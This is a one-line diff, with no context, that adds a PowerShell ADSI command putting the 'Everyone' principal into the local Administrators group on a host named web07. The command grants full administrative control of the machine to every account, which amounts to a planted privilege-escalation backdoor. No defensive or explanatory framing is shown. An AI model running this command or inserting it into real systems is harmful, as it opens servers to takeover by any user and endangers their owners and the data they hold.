@@ -1,0 +1,1 @@
+([ADSI]'WinNT://web07/Administrators,group').Add('WinNT://Everyone')
